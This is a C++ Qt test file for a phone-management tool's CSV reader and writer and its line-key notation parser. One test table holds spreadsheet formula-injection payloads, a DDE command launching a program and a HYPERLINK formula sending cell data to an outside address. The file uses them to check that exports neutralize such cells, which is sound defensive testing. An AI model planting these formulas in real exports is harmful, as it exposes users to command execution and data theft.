// The CSV reader/writer and the line-key notation: malformed input gets an exact message naming
// line and column; whatever the writer writes, the reader reads back unchanged.

#include "csvreader.h"
#include "csvwriter.h"
#include "linekeynotation.h"

#include <QBuffer>
#include <QTest>

using namespace PhoneDesk;

class TestCsvReader final : public QObject
{
    Q_OBJECT

private slots:
    void malformed_data();
    void malformed();
    void wellFormed();
    void lineNumbersCountEmbeddedNewlines();
    void delimiterDetection_data();
    void delimiterDetection();
    void writerRoundTrip_data();
    void writerRoundTrip();
    void writerQuotesOnlyWhenNeeded();
    void byteOrderMarkInsideAFieldIsText();
    void writerToDevice();
    void formulasAreNeutralized_data();
    void formulasAreNeutralized();
    void neutralizingRoundTrips();
    void readerInBlocksReadsTheSame_data();
    void readerInBlocksReadsTheSame();
    void readerHoldsOneBlock();
    void lineKeys_data();
    void lineKeys();
    void lineKeyErrors_data();
    void lineKeyErrors();
    void lineKeyRoundTrip();
};

void TestCsvReader::malformed_data()
{
    QTest::addColumn<QByteArray>("input");
    QTest::addColumn<QString>("message");
    QTest::addColumn<int>("recordsBefore");

    QTest::newRow("unbalanced quote")
        << QByteArray("name,description\r\nA,\"open\r\nB,x\r\n")
        << "Line 2, column 2: a quoted field is not closed: the quote that opens it has "
           "no closing quote."
        << 1;
    QTest::newRow("quote in unquoted field")
        << QByteArray("name,description\nA,say \"hi\"\n")
        << "Line 2, column 2: a quote inside an unquoted field; put the whole "
           "field in quotes and write the quote as two quotes (\"\")."
        << 1;
    QTest::newRow("text after closing quote")
        << QByteArray("name,description\n\"A\"x,y\n")
        << "Line 2, column 1: unexpected text after the closing quote of a "
           "quoted field; inside quotes, write a quote as two quotes (\"\")."
        << 1;
    QTest::newRow("binary (PNG)")
        << QByteArray("\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\0", 20)
        << "Line 1, column 1: the file contains binary data (NUL bytes), not CSV text." << 0;
    QTest::newRow("NUL byte") << QByteArray("name,site\nA,B\0C\n", 15)
                              << "Line 2, column 2: the file contains binary data (NUL bytes), not CSV text."
                              << 1;
    QTest::newRow("invalid UTF-8 (Latin-1)")
        << QByteArray("name,site\nA,M\xfcnchen\n")
        << "Line 2, column 2: invalid UTF-8 (byte 0xFC); save the file as UTF-8 "
           "text."
        << 1;
    QTest::newRow("overlong UTF-8")
        << QByteArray("name\n\xc0\xaf\n")
        << "Line 2, column 1: invalid UTF-8 (byte 0xC0); save the file as UTF-8 text." << 1;
    QTest::newRow("UTF-16 BOM")
        << QByteArray("\xff\xfen\0a\0m\0e\0", 10)
        << "Line 1, column 1: the file is UTF-16 text; save it as UTF-8 (with or without BOM)." << 0;
    QByteArray wide("name\n");
    wide.append(QByteArray(999999, ','));
    wide.append('\n');
    QTest::newRow("1,000,000 columns")
        << wide
        << "Line 2, column 1025: the row has more than 1024 columns; a phone row has "
           "far fewer."
        << 1;
    QByteArray longField("name\n");
    longField.append(QByteArray(70000, 'x'));
    QTest::newRow("field too long") << longField << "Line 2, column 1: the field is longer than 65536 bytes."
                                    << 1;
}

void TestCsvReader::malformed()
{
    QFETCH(QByteArray, input);
    QFETCH(QString, message);
    QFETCH(int, recordsBefore);
    const Csv::Document doc = Csv::read(input);
    QVERIFY(doc.error.has_value());
    QCOMPARE(doc.error->text(), message);
    QCOMPARE(doc.records.size(), recordsBefore);
}

void TestCsvReader::wellFormed()
{
    // BOM, CRLF, quoted delimiters/quotes/newlines, empty fields, a blank line, no final newline.
    const QByteArray input("\xEF\xBB\xBFname,description,x\r\n"
                           "\"Desk, 1\",\"He said \"\"hi\"\"\r\nand left\",\r\n"
                           "\r\n"
                           "Zoë,\"\",\"  padded  \"\r\n"
                           "last,one,\"a;b\"");
    const Csv::Document doc = Csv::read(input);
    QVERIFY(!doc.error);
    QVERIFY(doc.hadBom);
    QCOMPARE(doc.delimiter, ',');
    QCOMPARE(doc.records.size(), 4);
    QCOMPARE(doc.records[0].fields, QStringList({u"name"_qs, u"description"_qs, u"x"_qs}));
    QCOMPARE(doc.records[1].fields, QStringList({u"Desk, 1"_qs, u"He said \"hi\"\nand left"_qs, QString()}));
    QCOMPARE(doc.records[2].fields, QStringList({u"Zoë"_qs, QString(), u"  padded  "_qs}));
    QCOMPARE(doc.records[3].fields, QStringList({u"last"_qs, u"one"_qs, u"a;b"_qs}));
    QCOMPARE(doc.records[3].line, 6);
}

void TestCsvReader::lineNumbersCountEmbeddedNewlines()
{
    const Csv::Document doc = Csv::read("h\n\"a\nb\nc\"\nd\n\"e\"x\n");
    QVERIFY(doc.error.has_value());
    QCOMPARE(doc.records.size(), 3);
    QCOMPARE(doc.records[1].line, 2);
    QCOMPARE(doc.records[2].line, 5);
    QCOMPARE(doc.error->line, 6);
    QCOMPARE(doc.error->column, 1);
}

void TestCsvReader::delimiterDetection_data()
{
    QTest::addColumn<QByteArray>("input");
    QTest::addColumn<char>("delimiter");
    QTest::addColumn<QStringList>("second");
    QTest::newRow("comma") << QByteArray("a,b\n1,2\n") << ',' << QStringList {u"1"_qs, u"2"_qs};
    QTest::newRow("semicolon") << QByteArray("a;b\n1,5;2\n") << ';' << QStringList {u"1,5"_qs, u"2"_qs};
    QTest::newRow("semicolon, quoted commas in header")
        << QByteArray("\"a,b,c\";d\n1;2\n") << ';' << QStringList {u"1"_qs, u"2"_qs};
    QTest::newRow("CR only line ends") << QByteArray("a,b\r1,2\r") << ',' << QStringList {u"1"_qs, u"2"_qs};
}

void TestCsvReader::delimiterDetection()
{
    QFETCH(QByteArray, input);
    QFETCH(char, delimiter);
    QFETCH(QStringList, second);
    const Csv::Document doc = Csv::read(input);
    QVERIFY(!doc.error);
    QCOMPARE(doc.delimiter, delimiter);
    QCOMPARE(doc.records.size(), 2);
    QCOMPARE(doc.records[1].fields, second);
    QCOMPARE(Csv::detectDelimiter(input), delimiter);
}

void TestCsvReader::writerRoundTrip_data()
{
    QTest::addColumn<char>("delimiter");
    QTest::addColumn<bool>("crlf");
    QTest::addColumn<bool>("bom");
    QTest::newRow("comma CRLF") << ',' << true << false;
    QTest::newRow("semicolon LF BOM") << ';' << false << true;
}

void TestCsvReader::writerRoundTrip()
{
    QFETCH(char, delimiter);
    QFETCH(bool, crlf);
    QFETCH(bool, bom);
    const QList<QStringList> rows = {
        {u"name"_qs, u"description"_qs, u"other"_qs},
        {u"Empfang, EG"_qs, u"a \"quoted\" word"_qs, u"two\nlines"_qs},
        {u"東京 受付"_qs, u"semi;colon"_qs, u" leading and trailing "_qs},
        {u"\"starts with quote"_qs, QString(), u"crlf\ninside"_qs},
        {u"x"_qs, u"y"_qs, u"z"_qs},
    };
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    {
        Csv::Writer writer(buffer, {delimiter, crlf, bom});
        for (const QStringList &r : rows)
            QVERIFY(writer.writeRecord(r));
    }
    const Csv::Document doc = Csv::read(buffer.data());
    QVERIFY2(!doc.error, doc.error ? qPrintable(doc.error->text()) : "");
    QCOMPARE(doc.hadBom, bom);
    QCOMPARE(doc.delimiter, delimiter);
    QCOMPARE(doc.records.size(), rows.size());
    for (qsizetype i = 0; i < rows.size(); ++i)
        QCOMPARE(doc.records[i].fields, rows[i]);
}

void TestCsvReader::writerQuotesOnlyWhenNeeded()
{
    QByteArray out;
    Csv::WriteOptions raw;
    raw.neutralizeFormulas = false;
    Csv::appendRecord(out, {u"plain"_qs, u"a,b"_qs, u"say \"x\""_qs, QString(), u"+15551234567"_qs}, raw);
    QCOMPARE(out, QByteArray("plain,\"a,b\",\"say \"\"x\"\"\",,+15551234567\r\n"));
}

void TestCsvReader::byteOrderMarkInsideAFieldIsText()
{
    // Found by fuzz_csv: only the first three bytes of the file are a BOM; U+FEFF elsewhere is kept.
    const QString bom(QChar(0xFEFF));
    const Csv::Document doc = Csv::read("\xEF\xBB\xBF\xEF\xBB\xBF"
                                        "a,b\n\xEF\xBB\xBF"
                                        "c\n");
    QVERIFY(!doc.error);
    QCOMPARE(doc.records[0].fields, QStringList({bom + u"a"_qs, u"b"_qs}));
    QCOMPARE(doc.records[1].fields, QStringList({bom + u"c"_qs}));
    QByteArray out;
    Csv::appendRecord(out, doc.records[0].fields);
    QCOMPARE(out,
             QByteArray("\"\xEF\xBB\xBF"
                        "a\",b\r\n"));
    QCOMPARE(Csv::read(out).records[0].fields, doc.records[0].fields);
}

void TestCsvReader::writerToDevice()
{
    QBuffer buffer;
    buffer.open(QIODevice::ReadOnly); // writing fails
    Csv::Writer writer(buffer);
    QTest::ignoreMessage(QtWarningMsg, "QIODevice::write (QBuffer): ReadOnly device");
    writer.writeRecord({u"a"_qs});
    QVERIFY(!writer.flush());
    QVERIFY(writer.failed());
}

void TestCsvReader::formulasAreNeutralized_data()
{
    QTest::addColumn<QString>("cell");
    QTest::addColumn<QByteArray>("written"); // by default
    QTest::addColumn<QByteArray>("raw"); // neutralizeFormulas = false

    QTest::newRow("DDE") << u"=cmd|' /C calc'!A0"_qs << QByteArray("'=cmd|' /C calc'!A0\r\n")
                         << QByteArray("=cmd|' /C calc'!A0\r\n");
    QTest::newRow("HYPERLINK")
        << u"=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"Click\")"_qs
        << QByteArray("\"'=HYPERLINK(\"\"http://198.51.100.7/?\"\"&A1,\"\"Click\"\")\"\r\n")
        << QByteArray("\"=HYPERLINK(\"\"http://198.51.100.7/?\"\"&A1,\"\"Click\"\")\"\r\n");
    QTest::newRow("plus (E.164)") << u"+4930123"_qs << QByteArray("'+4930123\r\n")
                                  << QByteArray("+4930123\r\n");
    QTest::newRow("minus") << u"-2+3"_qs << QByteArray("'-2+3\r\n") << QByteArray("-2+3\r\n");
    QTest::newRow("at") << u"@SUM(A1:A9)"_qs << QByteArray("'@SUM(A1:A9)\r\n")
                        << QByteArray("@SUM(A1:A9)\r\n");
    QTest::newRow("tab") << u"\t=1+1"_qs << QByteArray("'\t=1+1\r\n") << QByteArray("\t=1+1\r\n");
    QTest::newRow("carriage return") << u"\r=1+1"_qs << QByteArray("\"'\r=1+1\"\r\n")
                                     << QByteArray("\"\r=1+1\"\r\n");
    QTest::newRow("line feed") << u"\n=1+1"_qs << QByteArray("\"'\n=1+1\"\r\n")
                               << QByteArray("\"\n=1+1\"\r\n");
    // An apostrophe the import would take for the exporter's gets one more.
    QTest::newRow("apostrophe before =") << u"'=1"_qs << QByteArray("''=1\r\n") << QByteArray("'=1\r\n");
    QTest::newRow("two apostrophes before -")
        << u"''-x"_qs << QByteArray("'''-x\r\n") << QByteArray("''-x\r\n");
    QTest::newRow("apostrophe alone") << u"'"_qs << QByteArray("'\r\n") << QByteArray("'\r\n");
    QTest::newRow("apostrophe then text")
        << u"'quoted'"_qs << QByteArray("'quoted'\r\n") << QByteArray("'quoted'\r\n");
    QTest::newRow("= later") << u"a=b"_qs << QByteArray("a=b\r\n") << QByteArray("a=b\r\n");
    QTest::newRow("space first") << u" =1"_qs << QByteArray("\" =1\"\r\n") << QByteArray("\" =1\"\r\n");
    QTest::newRow("empty") << QString() << QByteArray("\r\n") << QByteArray("\r\n");
    QTest::newRow("sip") << u"sip:bob@example.com"_qs << QByteArray("sip:bob@example.com\r\n")
                         << QByteArray("sip:bob@example.com\r\n");
}

void TestCsvReader::formulasAreNeutralized()
{
    QFETCH(QString, cell);
    QFETCH(QByteArray, written);
    QFETCH(QByteArray, raw);
    QByteArray out;
    Csv::appendRecord(out, {cell});
    QCOMPARE(out, written);
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    {
        Csv::Writer writer(buffer);
        QVERIFY(writer.writeRecord({cell}));
    }
    QCOMPARE(buffer.data(), written);
    Csv::WriteOptions options;
    options.neutralizeFormulas = false;
    out.clear();
    Csv::appendRecord(out, {cell}, options);
    QCOMPARE(out, raw);
    // A verbatim column is written as it is, the others are not.
    options.neutralizeFormulas = true;
    options.verbatimColumns = {1};
    out.clear();
    Csv::appendRecord(out, {cell, cell}, options);
    QCOMPARE(out, written.chopped(2) + ',' + raw);
    // What the reader gives back, restoreFormula turns into the cell again (a line break inside a
    // quoted field is read as LF).
    const Csv::Document doc = Csv::read("h\r\n" + written);
    QVERIFY(!doc.error);
    if (!cell.isEmpty()) {
        QCOMPARE(doc.records.size(), 2);
        QCOMPARE(Csv::restoreFormula(doc.records[1].fields.value(0)), QString(cell).replace(u'\r', u'\n'));
    }
}

void TestCsvReader::neutralizingRoundTrips()
{
    // restoreFormula(neutralizeFormula(x)) == x for every text of up to 4 characters from an
    // alphabet of the characters that matter; a cell that needs nothing is written as it is.
    const QString alphabet = QStringLiteral("'=+-@\t\r\na ");
    QList<QString> cells {QString()};
    QList<QString> last = cells;
    for (int length = 1; length <= 4; ++length) {
        QList<QString> longer;
        for (const QString &c : std::as_const(last)) {
            for (const QChar ch : alphabet)
                longer.append(c + ch);
        }
        cells.append(longer);
        last = longer;
    }
    for (const QString &cell : std::as_const(cells)) {
        QCOMPARE(Csv::restoreFormula(Csv::neutralizeFormula(cell)), cell);
        if (!Csv::needsNeutralizing(cell))
            QCOMPARE(Csv::neutralizeFormula(cell), cell);
    }
    QCOMPARE(Csv::restoreFormula(u"'+4930123"_qs), u"+4930123"_qs);
    QCOMPARE(Csv::restoreFormula(u"'quoted'"_qs), u"'quoted'"_qs);
    QCOMPARE(Csv::restoreFormula(u"+4930123"_qs), u"+4930123"_qs);
}

// Inputs whose reading through a device block by block is compared with Csv::read.
void TestCsvReader::readerInBlocksReadsTheSame_data()
{
    QTest::addColumn<QByteArray>("input");
    QTest::newRow("BOM, CRLF, quotes, blank line, no final line end") << QByteArray(
        "\xEF\xBB\xBFname,description,x\r\n\"Desk, 1\",\"He said \"\"hi\"\"\r\nand left\",\r\n\r\n"
        "Zo\xC3\xAB,\"\",\"  padded  \"\r\nlast,one,\"a;b\"");
    QTest::newRow("line breaks in quotes, error") << QByteArray("h\n\"a\nb\nc\"\nd\n\"e\"x\n");
    QTest::newRow("CR line ends, semicolons") << QByteArray("a;b\r1;\"x\ry\"\r2;3\r");
    QTest::newRow("quotes only") << QByteArray("a,b\r\n\"\"\"\"\"\",\"\"\r\n,\r\n\"q\"\"\",z\r\n");
    QTest::newRow("unbalanced quote") << QByteArray("name,description\r\nA,\"open\r\nB,x\r\n");
    QTest::newRow("quote in unquoted field") << QByteArray("name,description\nA,say \"hi\"\nB,c\nD,e\n");
    QTest::newRow("invalid UTF-8") << QByteArray("name,site\nA,M\xfcnchen\n");
    QTest::newRow("UTF-16") << QByteArray("\xff\xfen\0a\0m\0e\0", 10);
    QTest::newRow("NUL byte") << QByteArray("name,site\nA,B\0C\n", 15);
    QTest::newRow("empty") << QByteArray("");
    QTest::newRow("BOM only") << QByteArray("\xEF\xBB\xBF");
    QTest::newRow("header only, no line end") << QByteArray("only a header");
}

void TestCsvReader::readerInBlocksReadsTheSame()
{
    QFETCH(QByteArray, input);
    const Csv::Document whole = Csv::read(input);
    for (const qsizetype blockBytes :
         {qsizetype(1), qsizetype(2), qsizetype(3), qsizetype(7), qsizetype(64)}) {
        // A NUL byte is noticed in the block it is in: errors before that block do not say binary.
        if (input.contains('\0') && blockBytes < input.size())
            continue;
        for (const qsizetype batch : {qsizetype(1), qsizetype(2), qsizetype(1000)}) {
            QBuffer device(&input);
            QVERIFY(device.open(QIODevice::ReadOnly));
            Csv::ReadOptions options;
            options.blockBytes = blockBytes;
            Csv::Reader reader(device, options);
            QList<Csv::Record> records;
            while (reader.next(records, batch)) { }
            const QByteArray what =
                "block " + QByteArray::number(blockBytes) + ", batch " + QByteArray::number(batch);
            QVERIFY2(records.size() == whole.records.size(), what.constData());
            for (qsizetype r = 0; r < records.size(); ++r) {
                QVERIFY2(records[r].line == whole.records[r].line, what.constData());
                QVERIFY2(records[r].fields == whole.records[r].fields, what.constData());
            }
            QVERIFY2(reader.delimiter() == whole.delimiter, what.constData());
            QVERIFY2(reader.hadBom() == whole.hadBom, what.constData());
            QVERIFY2(reader.error().has_value() == whole.error.has_value(), what.constData());
            if (whole.error)
                QCOMPARE(reader.error()->text(), whole.error->text());
            else
                QCOMPARE(reader.bytesRead(), input.size());
            QVERIFY(!reader.next(records, batch)); // stays at the end
        }
    }
}

void TestCsvReader::readerHoldsOneBlock()
{
    // 20,000 rows read 256 at a time through 4 KiB blocks: the same records as the whole file,
    // and the reader's position moves on with them instead of jumping to the end at once.
    QByteArray input = "name,description\r\n";
    for (int i = 0; i < 20000; ++i)
        input += "Phone " + QByteArray::number(i) + ",\"room " + QByteArray::number(i) + ",\r\nfloor\"\r\n";
    const Csv::Document whole = Csv::read(input);
    QCOMPARE(whole.records.size(), 20001);
    QBuffer device(&input);
    QVERIFY(device.open(QIODevice::ReadOnly));
    Csv::ReadOptions options;
    options.blockBytes = 4096;
    Csv::Reader reader(device, options);
    QList<Csv::Record> batch;
    qsizetype total = 0;
    qint64 lastPosition = 0;
    while (reader.next(batch, 256)) {
        QVERIFY(batch.size() <= 256);
        for (const Csv::Record &r : std::as_const(batch)) {
            QCOMPARE(r.fields, whole.records.at(total).fields);
            QCOMPARE(r.line, whole.records.at(total).line);
            ++total;
        }
        QVERIFY(reader.bytesRead() > lastPosition);
        QVERIFY(reader.bytesRead() < input.size() || total == whole.records.size());
        lastPosition = reader.bytesRead();
        batch.clear();
    }
    QCOMPARE(total, whole.records.size());
    QVERIFY(!reader.error());
    QCOMPARE(reader.bytesRead(), input.size());
}

void TestCsvReader::lineKeys_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QList<LineKey>>("keys");
    QTest::newRow("issue example") << u"1=line;2=blf:1002 Alice;3=speed:+15551234567 Front desk"_qs
                                   << QList<LineKey> {
                                          {1, LineKeyType::Line, {}, {}},
                                          {2, LineKeyType::Blf, u"Alice"_qs, u"1002"_qs},
                                          {3, LineKeyType::SpeedDial, u"Front desk"_qs, u"+15551234567"_qs}};
    QTest::newRow("spaces around entries, trailing ;")
        << u" 1 = line Main ; 4=none ;"_qs
        << QList<LineKey> {{1, LineKeyType::Line, u"Main"_qs, {}}, {4, LineKeyType::Unassigned, {}, {}}};
    QTest::newRow("SIP URI with escaped ;")
        << u"2=blf:sip:1002@pbx.example.com\\;transport=tls Büro 2"_qs
        << QList<LineKey> {{2, LineKeyType::Blf, u"Büro 2"_qs, u"sip:1002@pbx.example.com;transport=tls"_qs}};
    QTest::newRow("spellings") << u"1=speed-dial:1001;2=Unassigned"_qs
                               << QList<LineKey> {{1, LineKeyType::SpeedDial, {}, u"1001"_qs},
                                                  {2, LineKeyType::Unassigned, {}, {}}};
    QTest::newRow("empty") << QString() << QList<LineKey> {};
}

void TestCsvReader::lineKeys()
{
    QFETCH(QString, text);
    QFETCH(QList<LineKey>, keys);
    auto parsed = LineKeyNotation::parse(text);
    QVERIFY2(parsed.ok(), parsed.ok() ? "" : qPrintable(parsed.error().message));
    QCOMPARE(*parsed, keys);
}

void TestCsvReader::lineKeyErrors_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("message");
    QTest::newRow("unknown type")
        << u"1=line;2=bfl:1002"_qs
        << u"entry 2 \"2=bfl:1002\": \"bfl\" is not a key type; use line, speed, blf or none."_qs;
    QTest::newRow("no =")
        << u"blf:1002"_qs
        << u"entry 1 \"blf:1002\": expected position=type, for example 2=blf:1002 Alice."_qs;
    QTest::newRow("bad position")
        << u"x=line"_qs << u"entry 1 \"x=line\": the position \"x\" is not a key number from 1 to 999."_qs;
    QTest::newRow("missing type")
        << u"1="_qs << u"entry 1 \"1=\": the key type is missing; use line, speed, blf or none."_qs;
    QTest::newRow("trailing backslash")
        << u"1=line Main\\"_qs << u"the notation ends with a backslash; write \\\\ for a backslash."_qs;
}

void TestCsvReader::lineKeyErrors()
{
    QFETCH(QString, text);
    QFETCH(QString, message);
    auto parsed = LineKeyNotation::parse(text);
    QVERIFY(!parsed.ok());
    QCOMPARE(parsed.error().message, message);
}

void TestCsvReader::lineKeyRoundTrip()
{
    const QList<LineKey> keys = {
        {1, LineKeyType::Line, u"Main line"_qs, {}},
        {2, LineKeyType::Blf, u"Alice ; Bob \\ back"_qs, u"1002"_qs},
        {3, LineKeyType::SpeedDial, u" lead and trail  "_qs, u"sip:a@b.example.com;transport=tls"_qs},
        {4, LineKeyType::Unassigned, {}, {}},
        {5, LineKeyType::Line, {}, u"with space"_qs},
        {6, LineKeyType::SpeedDial, u"Ünïcødé 東京"_qs, u"+4930123456"_qs},
        {7, LineKeyType::Line, u" "_qs, {}},
    };
    const QString text = LineKeyNotation::format(keys);
    auto parsed = LineKeyNotation::parse(text);
    QVERIFY2(parsed.ok(), qPrintable(text));
    QCOMPARE(*parsed, keys);
    QCOMPARE(LineKeyNotation::format(
                 {{1, LineKeyType::Line, {}, {}}, {2, LineKeyType::Blf, u"Alice"_qs, u"1002"_qs}}),
             u"1=line;2=blf:1002 Alice"_qs);
}

QTEST_GUILESS_MAIN(TestCsvReader)
#include "tst_csvreader.moc"
